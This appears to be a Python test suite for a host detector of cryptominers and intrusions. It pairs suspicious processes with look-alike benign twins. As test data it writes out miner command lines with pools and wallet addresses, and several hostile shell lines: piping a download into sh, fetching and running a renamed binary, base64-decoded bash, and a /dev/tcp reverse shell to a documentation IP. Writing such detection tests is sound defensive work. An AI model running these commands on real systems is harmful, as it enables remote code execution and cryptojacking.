"""Names and arguments: what a miner calls itself and is told on its command line."""

from __future__ import annotations

from tests.lab.case import case
from tests.lab.room import Planted, Room
from tests.lab.wallets import XMR, misspelt


@case(1, miner_process_likely="pid")
def miner_name(room: Room) -> Planted:
    """xmrig under its own name."""
    return {"pid": room.run("/opt/xmrig/xmrig")}


@miner_name.twin
def _(room: Room) -> Planted:
    """an editor open on xmrig's source."""
    return {"pid": room.run("/usr/bin/vim.basic", "/srv/src/xmrig/src/xmrig.cpp")}


@case(1, miner_process_likely="pid")
def miner_name_mutated(room: Room) -> Planted:
    """a miner whose name has grown a suffix."""
    return {"pid": room.run("/opt/run/xmrig-notls64")}


@miner_name_mutated.twin
def _(room: Room) -> Planted:
    """the metrics exporter of a miner that runs elsewhere."""
    return {"pid": room.run("/opt/monitoring/xmrig_exporter", "--web.listen-address=:9100")}


@case(1, miner_process_likely="pid")
def miner_name_in_argv(room: Room) -> Planted:
    """a program named worker, started as ./xmrig."""
    return {"pid": room.start("./xmrig", executable=room.program("/opt/run/worker"))}


@miner_name_in_argv.twin
def _(room: Room) -> Planted:
    """kubectl reading the log of a pod named xmrig."""
    return {"pid": room.run("/usr/local/bin/kubectl", "logs", "-f", "xmrig-7d9c6b7b8-x2x4q")}


@case(1, miner_process_likely="pid")
def worm_name(room: Room) -> Planted:
    """a worm's miner, named after a kernel thread that is none."""
    return {"pid": room.run("/var/lib/kdevtmpfsi")}


@worm_name.twin
def _(room: Room) -> Planted:
    """grep for the worm's name in a log."""
    return {"pid": room.start("grep", "-c", "kdevtmpfsi", "-")}


@case(1, miner_process="pid")
def miner_options(room: Room) -> Planted:
    """options that only miners have."""
    return {"pid": room.run("/opt/run/worker", "--donate-level=1", "--cpu-max-threads-hint=75")}


@miner_options.twin
def _(room: Room) -> Planted:
    """grep for a miner's option."""
    return {"pid": room.start("grep", "-r", "-e", "--donate-level", "-")}


@case(1, miner_process="pid")
def stratum_url(room: Room) -> Planted:
    """a stratum URL as an argument."""
    return {"pid": room.run("/opt/run/worker", "-o", "stratum+tcp://pool.example.org:3333", "-u", "w")}


@stratum_url.twin
def _(room: Room) -> Planted:
    """git searching its history for a stratum URL."""
    return {"pid": room.run("/usr/bin/git", "log", "-S", "stratum+tcp://pool.example.org:3333")}


@case(1, miner_process="pid")
def wallet_and_pool(room: Room) -> Planted:
    """a Monero address beside a pool, and nothing else."""
    return {"pid": room.run("/opt/run/worker", "198.51.100.7:3333", XMR)}


@wallet_and_pool.twin
def _(room: Room) -> Planted:
    """a web server told an upstream and a token that has the form of an address."""
    return {"pid": room.run("/opt/shop/server", "--token", misspelt(XMR), "--upstream", "198.51.100.20:8080")}


@case(1, miner_process="pid")
def algorithm_and_pool(room: Room) -> Planted:
    """an algorithm, a pool and a user."""
    return {"pid": room.run("/opt/run/worker", "-a", "rx/0", "-o", "pool.example.org:3333", "-u", "user")}


@algorithm_and_pool.twin
def _(room: Room) -> Planted:
    """a backup tool whose options have the same letters."""
    return {"pid": room.run("/usr/bin/backup", "-a", "sha256", "-o", "backup.example.org:22", "-u", "backup")}


@case(1, miner_process="pid")
def kaspa_address(room: Room) -> Planted:
    """the option that Kaspa's miners have."""
    return {"pid": room.run("/opt/run/worker", "--mining-address", "kaspa:x", "--kaspad-address", "203.0.113.9")}


@kaspa_address.twin
def _(room: Room) -> Planted:
    """a node of that coin."""
    return {"pid": room.run("/usr/bin/kaspad", "--utxoindex", "--rpclisten=127.0.0.1:16110")}


@case(1, miner_process="pid")
def proxy_of_miners(room: Room) -> Planted:
    """a proxy for miners under another name."""
    return {"pid": room.run("/opt/run/worker", "--mode=nicehash", "--bind=0.0.0.0:3333", "--custom-diff=100000")}


@proxy_of_miners.twin
def _(room: Room) -> Planted:
    """a web server in production mode."""
    return {"pid": room.run("/opt/web/front", "--mode=production", "--bind=0.0.0.0:8080")}


@case(1, miner_process_likely="pid")
def pool_in_a_hidden_network(room: Room) -> Planted:
    """a login at an onion service."""
    return {"pid": room.run("/opt/run/worker", "-o", "expyuzz4wqqyqhjn.onion:3333", "-u", "x", "-p", "x", "-k")}


@pool_in_a_hidden_network.twin
def _(room: Room) -> Planted:
    """a client with an onion service as its server, and no user there."""
    return {"pid": room.run("/opt/chat/client", "-s", "expyuzz4wqqyqhjn.onion:6667")}


@case(1, miner_process_likely="pid")
def login_at_an_unknown_pool(room: Room) -> Planted:
    """a login with the password that means none."""
    return {"pid": room.run("/opt/run/worker", "-o", "203.0.113.9:3333", "-u", "web01", "-p", "x")}


@login_at_an_unknown_pool.twin
def _(room: Room) -> Planted:
    """a login at a database, with a password."""
    return {"pid": room.run("/opt/db/copy", "-o", "203.0.113.9:5432", "-u", "backup", "-p", "Xa7-kept")}


@case(1, miner_process="pid")
def pool_that_is_missing(room: Room) -> Planted:
    """a mining scheme without a host."""
    return {"pid": room.run("/opt/run/worker", "-o", "stratum+tcp", "-u", "x")}


@pool_that_is_missing.twin
def _(room: Room) -> Planted:
    """a program told a scheme of another kind."""
    return {"pid": room.run("/opt/db/dump", "-o", "git+ssh", "-u", "x")}


@case(1, miner_process="pid")
def young_coins_wallet(room: Room) -> Planted:
    """an address of Kaspa behind a user option."""
    wallet = "kaspa:qpauqsvk7yf9unexwmxsnmg547mhyga37csh0kj53q6xxgl24ydxjsgzthw5j"
    return {"pid": room.run("/opt/run/worker", "-a", "kheavyhash", "-u", f"{wallet}.rig")}


@young_coins_wallet.twin
def _(room: Room) -> Planted:
    """a wallet that is told an address of the same coin to pay to."""
    wallet = "kaspa:qpauqsvk7yf9unexwmxsnmg547mhyga37csh0kj53q6xxgl24ydxjsgzthw5j"
    return {"pid": room.run("/usr/bin/kaspawallet", f"--to={wallet}")}


@case(1, odd_command_running="pid")
def decoded_by_anybody(room: Room) -> Planted:
    """an ordinary account's shell running decoded text."""
    script = "read hold; echo ZWNobyBoZWxsbw== | base64 -d | bash"
    return {"pid": room.start("sh", "-c", script, user=1000, group=1000, extra_groups=[])}


@decoded_by_anybody.twin
def _(room: Room) -> Planted:
    """an ordinary account's shell decoding a key into a file."""
    script = "read hold; echo ZWNobyBoZWxsbw== | base64 -d > ~/key.pem"
    return {"pid": room.start("sh", "-c", script, user=1000, group=1000, extra_groups=[])}


@case(1, odd_command_running="pid")
def renamed_downloader(room: Room) -> Planted:
    """a downloader under another name whose file is then run."""
    script = "read hold; good http://203.0.113.9/x -O f; chmod +x f; ./f"
    return {"pid": room.start("sh", "-c", script)}


@renamed_downloader.twin
def _(room: Room) -> Planted:
    """a developer's installer, fetched with the downloader that everybody has."""
    script = "read hold; curl -fsSL https://get.example.org/ -o install.sh; less install.sh"
    return {"pid": room.start("sh", "-c", script)}


@case(1, service_account_shell="pid")
def copied_run_and_deleted(room: Room) -> Planted:
    """the database's account starting a copy under a shell's name and deleting it."""
    script = "read hold; cp x ./-bash && ./-bash; rm ./-bash"
    return {"pid": room.start("sh", "-c", script, user=101, group=101, extra_groups=[])}


@copied_run_and_deleted.twin
def _(room: Room) -> Planted:
    """the database's account copying its log away before it deletes it."""
    script = "read hold; cp server.log /srv/backup/server.log && rm server.log"
    return {"pid": room.start("sh", "-c", script, user=101, group=101, extra_groups=[])}


@case(1, service_account_shell="pid")
def service_account_download(room: Room) -> Planted:
    """www-data piping a download into a shell."""
    script = "read hold; curl -fsSL http://203.0.113.9/x.sh | sh"
    return {"pid": room.start("sh", "-c", script, user=33, group=33, extra_groups=[])}


@service_account_download.twin
def _(room: Room) -> Planted:
    """www-data running a web application's own timer."""
    script = "read hold; curl -fsS http://localhost/cron.php >/dev/null"
    return {"pid": room.start("sh", "-c", script, user=33, group=33, extra_groups=[])}


@case(1, needs=("bash",), service_account_shell="pid")
def service_account_reverse_shell(room: Room) -> Planted:
    """the database's account opening a socket from the shell."""
    script = "read hold; bash -i >& /dev/tcp/203.0.113.9/443 0>&1"
    return {"pid": room.start("bash", "-c", script, user=101, group=101, extra_groups=[])}


@service_account_reverse_shell.twin
def _(room: Room) -> Planted:
    """the database's account waiting for its own port."""
    script = "read hold; until echo > /dev/tcp/127.0.0.1/5432; do sleep 1; done"
    return {"pid": room.start("bash", "-c", script, user=101, group=101, extra_groups=[])}


@case(1, miner_process="pid", miner_config_file="config_path")
def qubic_client(room: Room) -> Planted:
    """Qubic's client, which reads its pool from appsettings.json."""
    text = '{"ClientSettings": {"poolAddress": "wss://pool.example.org/ws", "accessToken": "x", "trainer": {"cpu": true}}}'
    path = room.write("/opt/qc/appsettings.json", text)
    return {"pid": room.run("/opt/qc/qli-Client", cwd="/opt/qc"), "config_path": path}


@qubic_client.twin
def _(room: Room) -> Planted:
    """a web service of .NET's with its settings."""
    text = '{"Logging": {"LogLevel": {}}, "ClientSettings": {"BaseUrl": "https://api.example.org", "accessToken": "x"}}'
    path = room.write("/opt/shop/appsettings.json", text)
    return {"pid": room.run("/opt/shop/Shop.Web", cwd="/opt/shop"), "config_path": path}


@case(1, miner_process="pid")
def pool_without_a_host(room: Room) -> Planted:
    """an algorithm of this year's, and a scheme of pools without a host."""
    return {"pid": room.run("/opt/run/worker", "-a", "minotaurx", "-o", "stratum+tcp", "-u", "web01")}


@pool_without_a_host.twin
def _(room: Room) -> Planted:
    """an encoder with an algorithm and an output."""
    return {"pid": room.run("/opt/media/enc", "-a", "aac", "-o", "out.mp4", "-u", "web01")}
